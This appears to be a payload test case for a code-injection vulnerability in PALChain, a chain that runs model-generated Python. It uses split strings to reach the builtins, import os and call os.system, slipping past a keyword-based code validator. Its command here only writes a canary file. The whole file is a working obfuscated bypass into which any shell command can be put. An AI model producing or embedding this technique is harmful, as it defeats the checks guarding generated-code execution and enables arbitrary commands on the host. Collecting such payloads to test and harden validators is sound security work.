# source: PALChain CVE-2025-61423
# effect: process

load = globals()["__buil" + "tins__"]
load.__dict__["__imp" + "ort__"]("o" + "s").system("echo names/string_concatenation > /tmp/canary/process")
